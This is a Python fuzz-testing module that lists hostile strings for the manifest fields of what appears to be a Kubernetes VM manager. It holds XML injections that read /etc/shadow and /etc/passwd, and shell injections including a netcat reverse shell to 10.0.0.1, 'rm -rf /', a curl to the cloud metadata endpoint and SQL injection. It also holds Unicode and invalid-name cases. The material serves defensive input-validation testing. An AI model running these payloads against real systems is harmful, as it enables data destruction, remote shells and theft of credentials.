"""The hostile strings the manifest fuzz writes into fields, by family.

Each family is a fixed tuple, so that a seed picks the same values on every machine:

- XML injection: text that would close Kubenova's elements and open devices of its own if it
  were pasted into a domain's XML, CDATA ends, entity declarations, attribute breakouts.
- shell injection: command substitution, backticks, command separators, a newline followed by
  a command, format strings, path traversal.
- Unicode: bidirectional overrides, zero-width characters, emoji with joiners, NUL and other
  control characters, lone surrogates (JSON can carry them as escapes; Go's decoder turns them
  into U+FFFD, see :func:`as_stored`), noncharacters, line and paragraph separators.
- names that are not DNS names (RFC 1123), for metadata.name and the fields with its pattern.

Huge values are made to size from these (:func:`huge_text`, :func:`huge_unicode`), so that a
huge value is hostile too.
"""

from __future__ import annotations

import itertools
import re

XML_INJECTION: tuple[str, ...] = (
    "</kubenova:name><devices><disk type='file' device='disk'><source file='/etc/shadow'/>"
    "<target dev='vdz' bus='virtio'/></disk></devices><kubenova:name>",
    "</name><devices><hostdev mode='subsystem' type='pci'/></devices><name>",
    "]]><evil/><![CDATA[",
    "<![CDATA[</name><memory unit='GiB'>512</memory>]]>",
    "<!DOCTYPE d [<!ENTITY xxe SYSTEM 'file:///etc/passwd'>]><d>&xxe;</d>",
    "&xxe; &lt;devices&gt; &amp;amp; &#x3c;devices&#x3e; &#0;",
    "' type='kvm' foo='",
    '" onload="x" memory="999999',
    "<?xml version='1.0'?><domain type='kvm'><name>x</name></domain>",
    "<!-- --><devices><interface type='bridge'/></devices><!-- -->",
    "<?php system('reboot'); ?>",
    "<kubenova:host>real-host</kubenova:host>",
)

SHELL_INJECTION: tuple[str, ...] = (
    "$(reboot)",
    "`reboot`",
    "; rm -rf / --no-preserve-root",
    "| nc -e /bin/sh 10.0.0.1 4444",
    "&& halt -f",
    "$(curl -s http://169.254.169.254/latest/meta-data/)",
    "${IFS}reboot${IFS}",
    "\nreboot\n",
    "a\rreboot",
    "'; DROP TABLE instances; --",
    '\\"$(id)\\"',
    "%s%s%s%n%x",
    "../../../../etc/passwd",
    "$((1/0))",
    "* -exec reboot {} +",
)

UNICODE: tuple[str, ...] = (
    "\u202eevil\u202c txt.exe",
    "zero\u200bwidth\u200c\u200d\u2060\ufeffjoiners",
    "emoji \U0001f4a3\U0001f525 \U0001f9df\u200d\u2642\ufe0f \U0001f1fa\U0001f1f3",
    "nul\x00byte",
    "lone \ud800 high surrogate",
    "lone \udfff low surrogate",
    "combining e\u0301\u0301\u0301\u0336\u0336",
    "noncharacters \uffff\ufffe\U0010ffff",
    "controls \x01\x07\x1b[31m\x7f",
    "\u53f3\u304b\u3089\u5de6 \u05e2\u05d1\u05e8\u05d9\u05ea "
    "\u0627\u0644\u0639\u0631\u0628\u064a\u0629",
    "line\u2028separator\u2029paragraph",
    "\U0001d573\U0001d58e\U0001d587\U0001d594 math letters",
)

#: Values for metadata.name and the fields with a DNS-name pattern that no DNS name matches.
INVALID_DNS_NAMES: tuple[str, ...] = (
    "UPPER-case",
    "under_score",
    "-leading-dash",
    "trailing-dash-",
    "double..dot",
    "a" * 254,
    "\u00fcn\u00efc\u00f6d\u00e9",
    "with space",
    "$(reboot)",
    "..",
    "a/b",
    "a\x00b",
    "xn--\U0001f4a3",
)

#: Every hostile string of the fixed families (not the huge ones).
ALL_HOSTILE: tuple[str, ...] = XML_INJECTION + SHELL_INJECTION + UNICODE

#: One MiB: the size of the huge user data (16 times what spec.userData may hold).
MIB = 1024 * 1024

_LONE_SURROGATE = re.compile("[\ud800-\udfff]")


def huge_text(size: int) -> str:
    """``size`` characters of the XML and shell injections over and over (ASCII only, so that
    the request stays about ``size`` bytes)."""
    pattern = "".join(value for value in XML_INJECTION + SHELL_INJECTION if value.isascii())
    return "".join(itertools.islice(itertools.cycle(pattern), size))


def huge_unicode(chars: int) -> str:
    """``chars`` characters of three and four bytes each in UTF-8 (emoji, CJK, RTL marks)."""
    pattern = "\U0001f4a3\u53f3\u202e\U0001f9df\u200d\u0627\U0010fffd"
    return "".join(itertools.islice(itertools.cycle(pattern), chars))


def as_stored(value: str) -> str:
    """``value`` as the apiserver keeps it: Go's JSON decoder replaces each lone surrogate
    (an escape JSON allows, a character UTF-8 cannot carry) with U+FFFD."""
    return _LONE_SURROGATE.sub("\ufffd", value)
